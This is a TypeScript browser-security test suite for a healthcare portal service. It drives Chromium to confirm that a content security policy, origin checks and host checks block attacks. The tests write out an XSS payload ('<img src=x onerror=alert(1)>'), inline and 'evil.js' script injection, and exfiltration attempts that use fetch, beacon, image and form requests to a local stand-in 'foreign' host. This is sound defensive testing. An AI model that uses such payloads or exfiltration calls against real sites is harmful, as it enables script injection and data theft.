import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import t from 'tap'
import { PortalService, readSite } from '@epione/portal-service'
import { axe, launchChromium } from '../../helpers/chromium.ts'
import { visit, writeSite } from '../../helpers/portal.ts'

const asked: string[] = []
const hospital = createServer((request, response) => {
  asked.push(`${request.method ?? ''} ${request.url ?? ''}`)
  const isScript = request.url?.endsWith('.js') === true
  response.setHeader('content-type', isScript ? 'text/javascript' : 'application/json').end(isScript ? 'globalThis.stolen = true' : '{"from":"hospital"}')
}).listen(0, '127.0.0.1')
const foreign = createServer((request, response) => {
  asked.push(`foreign ${request.url ?? ''}`)
  response.setHeader('content-type', 'text/html').end('<!doctype html><title>foreign</title>')
}).listen(0, '127.0.0.1')
await Promise.all([once(hospital, 'listening'), once(foreign, 'listening')])
t.teardown(() => { for (const server of [hospital, foreign]) { server.close(); server.closeAllConnections() } })
const urlOf = (server: typeof hospital): string => `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`

const site = await readSite(await writeSite(t.testdir({}), {
  'site/index.html': '<!doctype html><html lang="en"><title>pages</title><main><h1>pages</h1></main><script type="module" src="/assets/main-1.js"></script>',
  'site/assets/main-1.js': "document.querySelector('h1').textContent = 'ran'",
  'frame/text.html': '<!doctype html><html lang="en"><title>frame</title><p>framed</p>'
}))
const gateway = { mspId: 'CoreMSP', id: 'core', name: 'Core', url: urlOf(hospital), tlsCaPem: undefined as unknown as string }
const service = await PortalService.listen({ label: 'epione-test', port: 0, site, config: { edition: 'installed' }, gateways: [gateway] })
t.teardown(async () => { await service.close() })
const browser = await launchChromium(t)
const { context, page, traffic } = await visit(t, browser, { service, origin: service.origin })

t.test('the address of the terminal lets a browser in, and is gone from it', async (t) => {
  t.equal(page.url(), `${service.origin}/`)
  t.equal(await page.textContent('h1'), 'ran', 'the script of the pages runs')
  t.strictSame(await page.evaluate(() => [isSecureContext, crossOriginIsolated, document.cookie]), [true, true, ''])
  t.strictSame(await page.evaluate(async (): Promise<unknown> => await (await fetch('/gateways/core/v1/network')).json()), { from: 'hospital' })
  t.strictSame(asked, ['GET /v1/network'])
  const other = await browser.newContext()
  t.teardown(async () => { await other.close() })
  const uninvited = await other.newPage()
  t.equal((await uninvited.goto(service.origin))?.status(), 401)
  t.match(await uninvited.textContent('body'), /terminal/)
  t.strictSame(await axe(uninvited), [])
})

t.test('a page that somebody got to run something in can neither run nor send it', async (t) => {
  asked.length = 0
  const tried = await page.evaluate(async (elsewhere) => {
    const outcome = async (work: () => unknown): Promise<string> => {
      try { await work(); return 'done' } catch (error) { return error instanceof Error ? error.name : String(error) }
    }
    const loads = (tag: 'script' | 'img' | 'iframe', src: string): Promise<void> => new Promise((resolve, reject) => {
      const element = document.createElement(tag)
      element.onload = () => { resolve() }
      element.onerror = () => { reject(new Error('refused')) }
      element.setAttribute('src', src)
      document.body.append(element)
    })
    return {
      fetch: await outcome(async () => await fetch(`${elsewhere}/leak`, { mode: 'no-cors' })),
      beacon: await outcome(() => { if (!navigator.sendBeacon(`${elsewhere}/beacon`)) throw new Error('refused') }),
      image: await outcome(async () => { await loads('img', `${elsewhere}/image`) }),
      html: await outcome(() => { document.body.innerHTML = '<img src=x onerror=alert(1)>' }),
      code: await outcome(() => Reflect.construct(Function, ['1'])),
      hospitalScript: await outcome(async () => { await loads('script', '/gateways/core/v1/evil.js') }),
      hospitalWorker: await outcome(() => new Worker('/gateways/core/v1/evil.js')),
      blobWorker: await outcome(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
      inline: await outcome(() => {
        const script = document.createElement('script')
        script.append('globalThis.stolen = true')
        document.body.append(script)
        if (!('stolen' in globalThis)) throw new Error('refused')
      }),
      form: await outcome(() => {
        const form = document.createElement('form')
        form.action = `${elsewhere}/form`
        document.body.append(form)
        form.submit()
      }),
      stolen: 'stolen' in globalThis
    }
  }, urlOf(foreign))
  t.match(tried, { fetch: 'TypeError', image: 'Error', html: 'TypeError', code: 'EvalError', hospitalScript: /Error/, hospitalWorker: 'TypeError', blobWorker: 'TypeError', inline: /Error/, stolen: false })
  t.equal(page.url(), `${service.origin}/`)
  t.strictSame(asked, [], 'nothing reached anybody')
})

t.test('a page of another site reaches neither the service nor a hospital', async (t) => {
  asked.length = 0
  const evil = await context.newPage()
  await evil.goto(`${urlOf(foreign)}/evil`)
  asked.length = 0
  const tried = await evil.evaluate(async (portal) => {
    const outcome = async (work: () => Promise<unknown>): Promise<string> => {
      try { return String(await work()) } catch (error) { return error instanceof Error ? error.name : String(error) }
    }
    return [
      await outcome(async () => await fetch(`${portal}/gateways/core/v1/network`, { credentials: 'include' })),
      await outcome(async () => await fetch(`${portal}/gateways/core/v1/records`, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })),
      await outcome(async () => await fetch(`${portal}/session`, { method: 'POST', mode: 'no-cors', body: '{"ticket":""}' }).then((answer) => answer.type)),
      await outcome(async () => await new Promise((resolve, reject) => {
        const script = document.createElement('script')
        script.src = `${portal}/assets/main-1.js`
        script.onload = resolve
        script.onerror = () => { reject(new Error('refused')) }
        document.body.append(script)
      }))
    ]
  }, service.origin)
  t.match(tried, ['TypeError', /.*/, /.*/, 'Error'])
  const frame = await evil.evaluate(async (portal) => {
    const element = document.createElement('iframe')
    element.src = portal
    document.body.append(element)
    await new Promise((resolve) => { element.onload = resolve })
    try { return element.contentDocument?.body.textContent ?? 'another origin' } catch { return 'another origin' }
  }, service.origin)
  t.equal(frame, 'another origin')
  const [framed] = evil.frames().filter((one) => one !== evil.mainFrame())
  t.notMatch(await framed?.content() ?? '', /pages|ran/, 'the pages are in no foreign frame')
  t.strictSame(asked.filter((what) => !what.startsWith('foreign')), [], 'no hospital was asked')
  // Another name for this machine, as after a rebinding of a foreign name.
  const rebound = await evil.goto(`http://localhost:${new URL(service.origin).port}/`)
  t.equal(rebound?.status(), 421)
  await evil.close()
})

t.test('what the pages sent is seen whole, which later searches rest on', async (t) => {
  await page.evaluate(async () => { await fetch('/gateways/core/v1/echo', { method: 'POST', headers: { authorization: 'Bearer marker-in-head' }, body: 'marker-in-body' }) })
  const bytes = await traffic.bytes()
  for (const marker of ['marker-in-head', 'marker-in-body', '/gateways/core/v1/echo']) t.ok(bytes.includes(marker), marker)
  t.ok(traffic.urls.every((url) => !url.includes('#')), 'no ticket is in an address that is asked')
})
